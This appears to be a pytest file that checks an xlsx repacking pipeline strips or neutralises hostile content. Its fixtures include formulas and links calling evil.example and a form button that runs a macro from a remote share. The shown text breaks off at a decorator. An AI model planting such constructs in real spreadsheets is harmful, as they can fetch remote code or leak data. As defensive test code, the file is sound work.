"""Hostile and unusual packages against the returned copy made in place (pipeline/write/repack.py).

Each test starts from a real form (conftest.build, read and checked once by the pipeline for its
findings), edits the package by hand and asks repack for the marked copy. Where repack makes one,
the copy must be a sound package (every part well-formed with a content type, every relationship
and every r:id resolving, rows and cells in order, worksheet children in schema order), must say
what openpyxl's copy says (returns_compare), and must keep nothing that could act; where it is not
sure it must raise Unsure, never anything else."""
from __future__ import annotations

import hashlib
import io
import posixpath
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook
from openpyxl.utils import coordinate_to_tuple

from conftest import build, g, needs_soffice
from pipeline.write.ooxml_edit import Unsure, esc
from pipeline.write.repack import repack
from pipeline.write.keep import plain_range, simple
from pipeline.write.returns import openpyxl_copy, return_job
from returns_compare import differences, said
from test_returns_fast import assert_sound, tasks_of

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_COMMENTS = "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"
CT_VML = "application/vnd.openxmlformats-officedocument.vmlDrawing"
CT_PRINTER = "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
CT_CUSTOM = "application/vnd.openxmlformats-officedocument.custom-properties+xml"
FMTID = "{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"
SHEET1, SHEET2, WORKBOOK, TYPES, STYLES = ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/workbook.xml",
                                           "[Content_Types].xml", "xl/styles.xml")
# CT_Worksheet's children in the schema's order
ORDER = ["sheetPr", "dimension", "sheetViews", "sheetFormatPr", "cols", "sheetData", "sheetCalcPr", "sheetProtection",
         "protectedRanges", "scenarios", "autoFilter", "sortState", "dataConsolidate", "customSheetViews", "mergeCells",
         "phoneticPr", "conditionalFormatting", "dataValidations", "hyperlinks", "printOptions", "pageMargins",
         "pageSetup", "headerFooter", "rowBreaks", "colBreaks", "customProperties", "cellWatches", "ignoredErrors",
         "smartTags", "drawing", "legacyDrawing", "legacyDrawingHF", "drawingHF", "picture", "oleObjects", "controls",
         "webPublishItems", "tableParts", "extLst"]

# what an element's r:id may name (a printer setting may name nothing: the copy has none)
LINKS = {"legacyDrawing": {"vmlDrawing"}, "legacyDrawingHF": {"vmlDrawing"}, "pageSetup": set(), "hyperlink": set(),
         "drawing": {"drawing"}, "sheet": {"worksheet", "chartsheet"}, "externalReference": set()}


# ---------------------------------------------------------------------------- the forms
@pytest.fixture(scope="module")
def forms(tmp_path_factory) -> dict[str, tuple[bytes, dict]]:
    """name → (the package's bytes, the content of its returned copy), read and checked once:
    xw (xlsxwriter, one sheet, every cell of the grid written, shared strings), op (openpyxl,
    inline strings, empty cells absent, <definedNames/>), cover (三 sheets: 封面 unflagged,
    自评表 and 评价报告 flagged)."""
    base = tmp_path_factory.mktemp("attack")
    inbox = base / "in"
    inbox.mkdir()
    build(inbox / "xw.xlsx", seed=301, plants=["identity", "rollup"])
    build(inbox / "op.xlsx", g.Drift(summary_blank=True, gap_rows=1), seed=302, plants=["identity"], writer="op")
    build(inbox / "cover.xlsx", g.Drift(cover=True, report_sheet=True), seed=304, plants=["rollup"])
    return {Path(t[0]).stem: (Path(t[0]).read_bytes(), t[2]) for t in tasks_of(inbox, base / "out")}


def flags(content: dict, *cells: str, sheet: str = "自评表") -> dict:
    """The content with findings at these cells only (one error each)."""
    first = content["rows"][0]
    return {"head": content["head"], "rows": [dict(first, sheet=sheet, cell=c, key=f"ATK-{i}", message=f"问题{i} <&>")
                                              for i, c in enumerate(cells)]}


def on_sheet(content: dict, name: str) -> dict:
    return dict(content, rows=[dict(r, sheet=name) for r in content["rows"]])


# ---------------------------------------------------------------------------- package edits
def edit(data: bytes, changes: dict) -> bytes:
    """The package with parts replaced (text, bytes, or a function of the old text), added, or
    removed (None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        old = zin.namelist()
        for name in old:
            change = changes.get(name, ...)
            if change is None:
                continue
            if change is ...:
                zout.writestr(name, zin.read(name))
            else:
                zout.writestr(name, change(zin.read(name).decode()) if callable(change) else change)
        for name, change in changes.items():
            if name not in old and change is not None:
                assert not callable(change), name
                zout.writestr(name, change)
    return out.getvalue()


def rels(*items, prefix: str | None = None) -> str:
    """A relationships part: (Id, type (short: officeDocument's), target, external)."""
    p = f"{prefix}:" if prefix else ""
    body = "".join(f'<{p}Relationship Id="{i}" Type="{t if "://" in t else RELS + "/" + t}" Target="{esc(target)}"'
                   + (' TargetMode="External"' if external else "") + "/>" for i, t, target, external in items)
    ns = f"xmlns:{prefix}" if prefix else "xmlns"
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<{p}Relationships {ns}="{PKG_RELS}">{body}</{p}Relationships>'


def add_types(*overrides, defaults=()):
    def change(xml: str) -> str:
        add = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults)
        add += "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in overrides)
        return xml.replace("</Types>", add + "</Types>")
    return change


def at_end(text: str):
    """text as the worksheet's last children."""
    return lambda xml: xml.replace("</worksheet>", text + "</worksheet>")


def row_end(row: int, cells: str):
    """cells appended to a row of the sheet."""
    def change(xml: str) -> str:
        m = re.search(rf'<row r="{row}"[^>]*>.*?</row>', xml, re.S)
        return xml[:m.end() - 6] + cells + xml[m.end() - 6:]
    return change


def unit_comments(cells, author: str = "填表人") -> str:
    items = "".join(f'<comment ref="{r}" authorId="0"><text><r><t>单位批注{r} &lt;&amp;&gt;</t></r></text></comment>'
                    for r in cells)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<comments xmlns="{MAIN}"><authors>'
            f"<author>{author}</author></authors><commentList>{items}</commentList></comments>")


def vml(objects) -> str:
    """A legacy drawing of (cell, ObjectType, extra ClientData) shapes."""
    shapes = ""
    for k, (ref, kind, extra) in enumerate(objects):
        r, c = coordinate_to_tuple(ref)
        shapes += (f'<v:shape id="_x0000_s{1025 + k}" type="#_x0000_t202" style="position:absolute;visibility:hidden">'
                   f'<v:textbox/><x:ClientData ObjectType="{kind}"><x:Anchor>{c}, 15, {r}, 10, {c + 2}, 15, {r + 4}, 4'
                   f"</x:Anchor>{extra}<x:Row>{r - 1}</x:Row><x:Column>{c - 1}</x:Column></x:ClientData></v:shape>")
    return ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:x="urn:schemas-microsoft-com:office:excel"><o:shapelayout v:ext="edit"><o:idmap v:ext="edit" data="1"/>'
            '</o:shapelayout><v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" '
            'path="m,l,21600r21600,l21600,xe"/>' + shapes + "</xml>")


def with_comments(data: bytes, cells, sheet: str = SHEET1, prefix: str | None = None, extra=()) -> bytes:
    """The unit's own legacy comments at cells of a sheet (its comments part, VML and link)."""
    return edit(data, {
        "xl/comments9.xml": unit_comments(cells),
        "xl/drawings/vmlDrawing9.vml": vml([(c, "Note", "") for c in cells] + list(extra)),
        _rels_of(sheet): rels(("rId7", "comments", "../comments9.xml", False),
                              ("rId8", "vmlDrawing", "../drawings/vmlDrawing9.vml", False), prefix=prefix),
        TYPES: add_types(("xl/comments9.xml", CT_COMMENTS), defaults=[("vml", CT_VML)]),
        sheet: at_end('<legacyDrawing r:id="rId8"/>')})


def _rels_of(part: str) -> str:
    folder, base = posixpath.split(part)
    return posixpath.join(folder, "_rels", base + ".rels")


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read(name).decode()


def names_of(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.namelist()


# ---------------------------------------------------------------------------- what a copy must be
def in_place(data: bytes, content: dict) -> bytes:
    return repack(data, content)


def openpyxls(data: bytes, content: dict) -> bytes:
    wb = openpyxl_copy(Path("unit.xlsx"), data, content)
    assert wb is not None, "openpyxl opens the input"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def assert_deep(data: bytes) -> None:
    """assert_sound, and: part names unique without case, every r:id of every part in its
    relationships, worksheet children in schema order and each once, rows and cells unique and
    in order, and nothing that could act: no macro, external link, printer settings, external
    target or hyperlink relationship, form control, formula beyond simple arithmetic, defined
    name other than a range; one selfeval = return property, property ids unique."""
    assert_sound(data)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        assert len({n.casefold() for n in names}) == len(names), "two parts of one name"
        types = ElementTree.fromstring(z.read(TYPES))
        sheets = [e.get("PartName").lstrip("/") for e in types if e.get("ContentType", "").endswith(".worksheet+xml")]
        for name in names:
            low = name.lower()
            assert not any(k in low for k in ("vbaproject", "externallink", "printersettings", "calcchain",
                                              "activex", "ctrlprop")), name
            if name.endswith(".rels"):
                for rel in ElementTree.fromstring(z.read(name)):
                    assert rel.get("TargetMode") != "External", (name, rel.attrib)
                    assert not rel.get("Type", "").endswith("/hyperlink"), (name, rel.attrib)
            elif name.endswith((".xml", ".vml")):
                root = ElementTree.fromstring(z.read(name))
                rn = _rels_of(name)
                ids = {r.get("Id") for r in ElementTree.fromstring(z.read(rn))} if rn in names else set()
                kinds = {r.get("Id"): r.get("Type", "").rsplit("/", 1)[-1]
                         for r in ElementTree.fromstring(z.read(rn))} if rn in names else {}
                for el in root.iter():
                    for k, v in el.attrib.items():
                        if k.startswith("{%s}" % RELS):
                            assert v in ids, (name, el.tag, v)
                            want = LINKS.get(el.tag.rsplit("}", 1)[-1])
                            assert want is None or kinds[v] in want, (name, el.tag, v, kinds[v])
            if name.endswith(".vml"):
                text = z.read(name).decode()
                assert set(re.findall(r"ObjectType=[\"']([^\"']*)", text)) <= {"Note"}, name
                assert "FmlaMacro" not in text, name
        for sheet in sheets:
            root = ElementTree.fromstring(z.read(sheet))
            tags = [el.tag[len(MAIN) + 2:] for el in root if el.tag.startswith("{%s}" % MAIN)]
            assert [ORDER.index(t) for t in tags] == sorted(ORDER.index(t) for t in tags), (sheet, tags)
            once = [t for t in tags if t != "conditionalFormatting"]
            assert len(once) == len(set(once)), (sheet, tags)
            last = 0
            for row in root.find("{%s}sheetData" % MAIN):
                r = int(row.get("r"))
                assert r > last, (sheet, "rows out of order", last, r)
                last, col = r, 0
                for cell in row:
                    rr, cc = coordinate_to_tuple(cell.get("r"))
                    assert rr == r and cc > col, (sheet, "cells out of order", cell.get("r"))
                    col = cc
                    f = cell.find("{%s}f" % MAIN)
                    if f is not None and f.text:
                        assert simple("=" + f.text), (sheet, cell.get("r"), f.text)
        wb = ElementTree.fromstring(z.read(WORKBOOK))
        assert wb.find("{%s}externalReferences" % MAIN) is None
        for dn in wb.iter("{%s}definedName" % MAIN):
            text = dn.text or ""
            assert "[" not in text and "(" not in text, (dn.get("name"), text)
            if not dn.get("name", "").startswith("_xlnm"):
                assert plain_range(text), (dn.get("name"), text)
        props = list(ElementTree.fromstring(z.read("docProps/custom.xml")))
        own = [p for p in props if p.get("name") == "selfeval"]
        assert len(own) == 1 and "".join(own[0].itertext()) == "return", [p.attrib for p in own]
        pids = [p.get("pid") for p in props]
        assert len(pids) == len(set(pids)), pids


def _norm(value):
    """said() with array formulas as what they say (openpyxl's objects compare by identity)."""
    from openpyxl.worksheet.formula import ArrayFormula

    if isinstance(value, dict):
        return {k: _norm(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(_norm(v) for v in value)
    if isinstance(value, ArrayFormula):
        return ("array", value.ref, value.text)
    return value


def assert_same(fast: bytes, data: bytes, content: dict) -> None:
    assert differences(_norm(said(openpyxls(data, content))), _norm(said(fast))) == []


def made(data: bytes, content: dict) -> bytes:
    """The copy made in place, sound, saying what openpyxl's says, keeping nothing active."""
    fast = in_place(data, content)
    assert_deep(fast)
    assert_same(fast, data, content)
    return fast


def made_or_unsure(data: bytes, content: dict, way: str) -> bytes | None:
    """The copy the unit gets, made the way pinned: "in place" (as made() asserts) or, where the
    edits cannot be sure, "openpyxl" (None; openpyxl's copy then keeps nothing active either)."""
    try:
        fast = in_place(data, content)
    except Unsure:
        assert way == "openpyxl", "the edits gave up on a package they should make in place"
        assert_deep(openpyxls(data, content))
        return None
    assert way == "in place", "made in place where openpyxl's path was expected"
    assert_deep(fast)
    assert_same(fast, data, content)
    return fast


def comments_of(data: bytes) -> dict[tuple[str, str], str]:
    wb = load_workbook(io.BytesIO(data))
    return {(ws.title, c.coordinate): c.comment.text for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if c.comment is not None}


# ============================================================================ fine: handled right
@pytest.mark.parametrize("cells, kept, inert", [
    # a shared formula whose master is simple: kept, follower too
    ('<c r="K1"><f t="shared" ref="K1:L1" si="0">C26+D26</f><v>1</v></c><c r="L1"><f t="shared" si="0"/><v>2</v></c>',
     ["K1", "L1"], []),
    # entities in formulas: a string concatenation and a comparison are not the form's arithmetic
    ('<c r="K1" t="str"><f>"a&amp;b"&amp;"&lt;&quot;&gt;"</f><v>x</v></c><c r="L1"><f>C26&lt;D26</f><v>1</v></c>'
     '<c r="M1"><f>&#72;YPERLINK("http://evil.example/")</f><v>1</v></c>', [], ["K1", "L1", "M1"]),
    # an array formula of simple arithmetic stays one
    ('<c r="K1"><f t="array" ref="K1:K1">SUM(C26:D26*2)</f><v>1</v></c>', ["K1"], []),
])
def test_formulas_are_kept_or_made_inert(forms, cells, kept, inert):
    data, content = forms["xw"]
    fast = made(edit(data, {SHEET1: row_end(1, cells)}), content)
    ws = load_workbook(io.BytesIO(fast)).worksheets[1]
    assert all(ws[c].data_type == "f" for c in kept)
    assert all(ws[c].data_type == "s" and ws[c].value.startswith("=") for c in inert)
    if "M1" in inert:   # a character reference read as the character it names
        assert ws["M1"].value == '=HYPERLINK("http://evil.example/")'


def test_a_hyperlink_formula_in_a_flagged_cell_becomes_text_and_gets_the_mark(forms):
    data, content = forms["xw"]
    hostile = edit(data, {SHEET1: lambda x: x.replace('<c r="C26" s="1"><v>46.84</v></c>',
                                                      '<c r="C26" s="1"><f>HYPERLINK("http://evil.example/","46.84")</f>'
                                                      "<v>46.84</v></c>")})
    fast = made(hostile, content)
    ws = load_workbook(io.BytesIO(fast))["自评表"]
    assert ws["C26"].data_type == "s" and "evil" in ws["C26"].value and ws["C26"].comment is not None
    assert ws["C26"].fill.fgColor.rgb[-6:] == "FFC7CE"


@pytest.mark.parametrize("cells", [
    '<c r="K1"><f t="shared" ref="K1:L1" si="0">HYPERLINK("http://e/",C26)</f><v>1</v></c><c r="L1"><f t="shared" si="0"/></c>',
    '<c r="K1"><f t="shared" si="3"/><v>1</v></c>',                                   # a follower without its master
    '<c r="K1"><f t="dataTable" ref="K1:K2" dt2D="0" dtr="0" r1="C26"/><v>1</v></c>',  # a data table
    '<c\nr="K1"><f>WEBSERVICE("http://evil.example/")</f><v>1</v></c>',              # a cell tag split by a newline
], ids=["shared-not-simple", "follower-alone", "data-table", "newline-in-tag"])
def test_formulas_it_cannot_keep_right_are_unsure(forms, cells):
    data, content = forms["xw"]
    with pytest.raises(Unsure):
        in_place(edit(data, {SHEET1: row_end(1, cells)}), content)


def test_links_external_links_and_names(forms):
    """Cell links (external and internal), an external link part with its own relationship,
    names with functions, external references, #REF!, hidden, local (one to a sheet that is
    not there) and print titles: what could act goes, plain ranges stay and move one sheet on."""
    data, content = forms["xw"]
    names = ('<definedNames><definedName name="extname">[1]Sheet1!$A$1</definedName>'
             '<definedName name="fn">WEBSERVICE("http://evil.example/")</definedName>'
             '<definedName name="ok">自评表!$C$26</definedName>'
             '<definedName name="loc" localSheetId="0">自评表!$C$26:$D$26</definedName>'
             '<definedName name="_xlnm.Print_Titles" localSheetId="0">自评表!$1:$3</definedName>'
             '<definedName name="_xlnm.Print_Area" localSheetId="0">自评表!#REF!</definedName>'
             '<definedName name="hid" hidden="1">自评表!$A$1</definedName>'
             '<definedName name="far" localSheetId="3">自评表!$A$1</definedName></definedNames>')
    hostile = edit(data, {
        WORKBOOK: lambda x: x.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId9"/>'
                                                   "</externalReferences>" + names),
        "xl/_rels/workbook.xml.rels": lambda x: x.replace("</Relationships>", f'<Relationship Id="rId9" Type="{RELS}/'
                                                          'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'),
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{MAIN}" xmlns:r="{RELS}"><externalBook r:id="rId1">'
                                              '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": rels(("rId1", "externalLinkPath", "file:///C:/evil.xlsx", True)),
        TYPES: add_types(("xl/externalLinks/externalLink1.xml",
                          "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")),
        SHEET1: lambda x: x.replace("<pageMargins", '<hyperlinks><hyperlink ref="A1" r:id="rId3"/><hyperlink ref="A2" '
                                                    "location=\"'自评表'!A5\" display=\"x\"/></hyperlinks><pageMargins"),
        _rels_of(SHEET1): rels(("rId3", "hyperlink", "http://evil.example/", True))})
    with pytest.warns(UserWarning):   # openpyxl on the name of a sheet index that is not there
        fast = made(hostile, content)
    wb = load_workbook(io.BytesIO(fast))
    assert set(wb.defined_names) == {"ok", "hid"} and set(wb["自评表"].defined_names) == {"loc"}
    assert wb["自评表"].print_title_rows == "$1:$3" and not wb["自评表"]._hyperlinks
    assert not [n for n in names_of(fast) if "external" in n.lower()]


def test_flags_in_merges_and_on_cells_the_unit_left_out(forms):
    """Two flags inside one merge (B3:E3, neither its top-left) share one comment at B3; a flag
    on a cell an openpyxl-written form leaves out adds the cell."""
    data, content = forms["xw"]
    fast = made(data, flags(content, "C3", "D3", "C26"))
    notes = comments_of(fast)
    assert "问题0" in notes[("自评表", "B3")] and "问题1" in notes[("自评表", "B3")] and ("自评表", "C3") not in notes
    data, content = forms["op"]
    made(data, content)


@pytest.mark.parametrize("change, rename", [
    (lambda x: x.replace('<sheet name="封面" sheetId="1"', '<sheet name="封面" sheetId="1" state="hidden"')
     .replace('<sheet name="评价报告" sheetId="3"', '<sheet name="评价报告" sheetId="3" state="veryHidden"')
     .replace("<workbookView ", '<workbookView activeTab="1" firstSheet="1" '), {}),
    (lambda x: x.replace('name="封面"', 'name="问题清单"'), {}),                       # the unit's own, no property
    (lambda x: x.replace('name="封面"', 'name="问题清单"').replace('name="评价报告"', 'name="问题清单（审核）"'),
     {"评价报告": "问题清单（审核）"}),
    (lambda x: x.replace('name="自评表"', f'name="{"很" * 31}"'), {"自评表": "很" * 31}),
    (lambda x: x.replace('name="自评表"', 'name="R&amp;D &lt;表&gt; &quot;x&quot;"'), {"自评表": 'R&D <表> "x"'}),
    (lambda x: x.replace('name="自评表"', "name=\"O'Brien表\""), {"自评表": "O'Brien表"}),
], ids=["hidden-first-veryhidden", "own-list-sheet", "own-list-and-audit", "31-chars", "amp-lt-quote", "apostrophe"])
def test_sheet_states_and_names(forms, change, rename):
    data, content = forms["cover"]
    rows = []
    for r in content["rows"]:
        r = dict(r, sheet=rename.get(r["sheet"], r["sheet"]))
        for old, new in rename.items():
            r["cell"] = r["cell"].replace(f"'{old}'!", f"'{new}'!")
        rows.append(r)
    fast = made(edit(data, {WORKBOOK: change}), dict(content, rows=rows))
    wb = load_workbook(io.BytesIO(fast))
    assert wb.sheetnames[0].startswith("问题清单") and wb.active.title == wb.sheetnames[0]
    assert wb.worksheets[0].sheet_state == "visible"
    assert len(comments_of(fast)) == len({(r["sheet"], r["cell"]) for r in rows})
    links = [c.hyperlink.location for row in wb.worksheets[0].iter_rows() for c in row if c.hyperlink]
    assert len(links) == len(rows) and all(wb[loc.rsplit("!", 1)[0][1:-1].replace("''", "'")] for loc in links)


def test_the_units_comments_stay_and_a_flagged_cells_gives_way(forms):
    data, content = forms["xw"]
    fast = made(with_comments(data, ["A1", "C26"]), content)
    notes = comments_of(fast)
    assert notes[("自评表", "A1")] == "单位批注A1 <&>" and "单位批注" not in notes[("自评表", "C26")]


def test_conditional_formats_validations_and_extlst_keep_the_schema_order(forms):
    """A cfRule with an extLst of its own, the worksheet's extLst after ignoredErrors: the new
    legacyDrawing goes between them."""
    data, content = forms["cover"]
    cf = ('<conditionalFormatting sqref="C13"><cfRule type="cellIs" priority="2" operator="greaterThan"><formula>0</formula>'
          '</cfRule><cfRule type="dataBar" priority="1"><dataBar><cfvo type="min"/><cfvo type="max"/><color rgb="FF638EC6"/>'
          '</dataBar><extLst><ext uri="{B025F937-C7B1-47D3-B67F-A62EFF666E3E}" xmlns:x14="http://schemas.microsoft.com/'
          'office/spreadsheetml/2009/9/main"><x14:id>{00000000-0001-0000-0000-000000000000}</x14:id></ext></extLst></cfRule>'
          '</conditionalFormatting><dataValidations count="1"><dataValidation type="list" allowBlank="1" sqref="D13">'
          '<formula1>"是,否"</formula1></dataValidation></dataValidations>')
    ext = ('<ignoredErrors><ignoredError sqref="C13" numberStoredAsText="1"/></ignoredErrors><extLst><ext uri="{78C0D931-'
           '6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           '<x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.com/office/excel/'
           '2006/main"><x14:cfRule type="dataBar" id="{00000000-0001-0000-0000-000000000000}"><x14:dataBar minLength="0" '
           'maxLength="100"><x14:cfvo type="autoMin"/><x14:cfvo type="autoMax"/></x14:dataBar></x14:cfRule><xm:sqref>C13'
           '</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst>')
    hostile = edit(data, {SHEET2: lambda x: at_end(ext)(x.replace("<pageMargins", cf + "<pageMargins", 1))})
    with pytest.warns(UserWarning):   # openpyxl on the data bar's extension
        fast = made(hostile, content)
    tail = re.findall(r"<(legacyDrawing|extLst|ignoredErrors)\b", part(fast, SHEET2))
    assert tail == ["extLst", "ignoredErrors", "legacyDrawing", "extLst"]


@pytest.mark.parametrize("change", [
    lambda x: x.replace("<fonts", '<numFmts count="2"><numFmt numFmtId="164" formatCode="#,##0.000"/><numFmt '
                                  'numFmtId="200" formatCode="0.0000&quot;万&quot;"/></numFmts><fonts', 1),
    lambda x: re.sub(r'<cellXfs count="\d+"', '<cellXfs count="1"', x),
    lambda x: x,
], ids=["numFmts", "cellXfs-count-wrong", "no-numFmts"])
def test_styles_variants(forms, change):
    """Number formats the list needs (three decimals) added to, or beside, the unit's own."""
    data, content = forms["xw"]
    content = dict(content, rows=[dict(r, expected="1.2345", actual="1.2") for r in content["rows"]])
    fast = made(edit(data, {STYLES: change}), content)
    assert load_workbook(io.BytesIO(fast))["问题清单"]["G7"].number_format.startswith("#,##0.0")


def test_a_style_index_out_of_range_is_unsure(forms):
    data, content = forms["xw"]
    with pytest.raises(Unsure):
        in_place(edit(data, {SHEET1: lambda x: x.replace('<c r="C26" s="1"', '<c r="C26" s="91"', 1)}), content)


@pytest.mark.parametrize("form, change, cells", [
    ("xw", lambda x: re.sub(r'<row r="(\d+)" spans="([\d:]+)"', r'<row spans="\2" r="\1"',
                            re.sub(r'<c r="([A-Z]+\d+)" s="(\d+)"', r'<c s="\2" r="\1"', x)), ("C26", "D27", "G27")),
    ("xw", lambda x: x.replace("><", ">\n  <"), ("C26", "H26", "C200")),            # pretty-printed
    ("op", lambda x: x.replace("><", ">\n  <"), ()),
    ("xw", lambda x: re.sub(r'<row r="27"[^>]*>.*?</row>', '<row r="27" spans="1:9" ht="20" customHeight="1"/>', x),
     ("C27", "D27")),                                                                  # a self-closed row
    ("xw", lambda x: x.replace("<worksheet ", '<worksheet xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/'
                               '2006" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" '
                               'mc:Ignorable="x14ac" ', 1).replace('<row r="26" spans="1:9">',
                                                                   '<row r="26" spans="1:9" x14ac:dyDescent="0.25">'), ()),
], ids=["attribute-order", "pretty-xw", "pretty-op", "self-closed-row", "mc-ignorable"])
def test_worksheet_xml_written_differently(forms, form, change, cells):
    data, content = forms[form]
    made(edit(data, {SHEET1: change}), flags(content, *cells) if cells else content)


def test_one_flag_on_an_empty_sheet(forms):
    data, content = forms["cover"]
    made(data, flags(content, "B2", sheet="封面"))
    made(edit(data, {SHEET1: lambda x: re.sub(r"<sheetData>.*</sheetData>", "<sheetData/>", x)}),
         flags(content, "B2", sheet="封面"))


@pytest.mark.parametrize("body", [
    f'<property fmtid="{FMTID}" pid="2" name="部门"><vt:lpwstr>财政 &amp; 税务</vt:lpwstr></property>'
    f'<property fmtid="{FMTID}" pid="7" name="n"><vt:i4>5</vt:i4></property>',
    f'<property fmtid="{FMTID}" pid="2" name="selfeval"><vt:lpwstr>summary</vt:lpwstr></property>',
    f'<property name="selfeval" pid="2" fmtid="{FMTID}"><vt:lpwstr>return</vt:lpwstr></property>',
], ids=["other-properties", "selfeval-other-value", "attributes-reordered"])
def test_custom_properties(forms, body):
    data, content = forms["xw"]
    made(_with_custom(data, body), content)


def _with_custom(data: bytes, body: str) -> bytes:
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Properties xmlns="http://schemas.openxmlformats.org/'
           'officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
           f'docPropsVTypes">{body}</Properties>')
    return edit(data, {"docProps/custom.xml": xml, TYPES: add_types(("docProps/custom.xml", CT_CUSTOM)),
                       "_rels/.rels": lambda x: x.replace("</Relationships>", f'<Relationship Id="rId9" Type="{RELS}/'
                                                          'custom-properties" Target="docProps/custom.xml"/></Relationships>')})


def test_no_document_properties(forms):
    data, content = forms["xw"]
    made(edit(data, {"docProps/app.xml": None, "docProps/core.xml": None,
                     "_rels/.rels": lambda x: re.sub(r"<Relationship [^>]*docProps[^>]*/>", "", x),
                     TYPES: lambda x: re.sub(r'<Override PartName="/docProps[^>]*/>', "", x)}), content)


@pytest.mark.parametrize("where, kind", [
    ("sheet", "drawing"), ("sheet", "table"), ("sheet", "ctrlProp"), ("sheet", "oleObject"), ("sheet", "image"),
    ("sheet", "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment"), ("sheet", "queryTable"),
    ("workbook", "connections"), ("workbook", "pivotCacheDefinition"), ("workbook", "customXml"),
    ("workbook", "sheetMetadata"), ("workbook", "http://schemas.microsoft.com/office/2017/10/relationships/person"),
    ("root", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"),
])
def test_parts_it_does_not_know_are_unsure(forms, where, kind):
    data, content = forms["cover"]
    rel = f'<Relationship Id="rId99" Type="{kind if "://" in kind else RELS + "/" + kind}" Target="/xl/x/part1.xml"/>'
    at = {"sheet": _rels_of(SHEET2), "workbook": "xl/_rels/workbook.xml.rels", "root": "_rels/.rels"}[where]
    add = rels(("rId99", kind, "/xl/x/part1.xml", False)) if where == "sheet" else \
        (lambda x: x.replace("</Relationships>", rel + "</Relationships>"))
    hostile = edit(data, {at: add, "xl/x/part1.xml": f'<x xmlns="{MAIN}"/>', TYPES: add_types(("xl/x/part1.xml", "application/xml"))})
    with pytest.raises(Unsure):
        in_place(hostile, content)


@pytest.mark.parametrize("at", ["xl/_rels/workbook.xml.rels", "_rels/.rels"])
def test_package_relationships_with_a_prefix_are_unsure(forms, at):
    data, content = forms["xw"]

    def prefixed(x):
        x = x.replace('<Relationships xmlns="', '<pr:Relationships xmlns:pr="').replace("</Relationships>", "</pr:Relationships>")
        return x.replace("<Relationship ", "<pr:Relationship ")
    with pytest.raises(Unsure):
        in_place(edit(data, {at: prefixed}), content)


def test_form_controls_in_the_flagged_sheets_drawing_are_unsure(forms):
    data, content = forms["cover"]
    button = ("B8", "Button", "<x:FmlaMacro>'\\\\evil.example\\share\\m.xlsm'!Auto</x:FmlaMacro>")
    with pytest.raises(Unsure):
        in_place(with_comments(data, ["A1"], sheet=SHEET2, extra=[button]), content)


def test_two_parts_of_one_name_are_unsure(forms):
    data, content = forms["xw"]
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            zout.writestr(name, zin.read(name))
        zout.writestr("xl/Styles.xml", zin.read(STYLES))
    with pytest.raises(Unsure):
        in_place(out.getvalue(), content)


def test_copies_sent_back_again_and_again(forms):
    """Round two and three: each copy, resubmitted, is marked again in place — one 问题清单, the
    earlier comments of re-flagged cells replaced, the unit's own kept, styles grown by a bounded
    few entries a round."""
    data, content = forms["cover"]
    data = with_comments(data, ["A1", "C13"], sheet=SHEET2)
    sizes = []
    for _ in range(3):
        data = made(data, content)
        wb = load_workbook(io.BytesIO(data))
        assert wb.sheetnames.count("问题清单") == 1 and wb.sheetnames[0] == "问题清单"
        notes = comments_of(data)
        assert notes[("自评表", "A1")] == "单位批注A1 <&>" and notes[("自评表", "C13")].count("[逻辑性错误]") == 1
        sizes.append(part(data, STYLES).count("<xf "))
    assert sizes[2] - sizes[1] == sizes[1] - sizes[0] < 40


# ---------------------------------------------------------------------------- LibreOffice
def _soffice(files: list[Path], out: Path, profile: Path, to: str = "xlsx:Calc MS Excel 2007 XML") -> None:
    exe = shutil.which("soffice") or shutil.which("libreoffice")
    p = subprocess.run([exe, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", to,
                        "--outdir", str(out), *map(str, files)], capture_output=True, timeout=300)
    assert p.returncode == 0, p.stderr


@needs_soffice
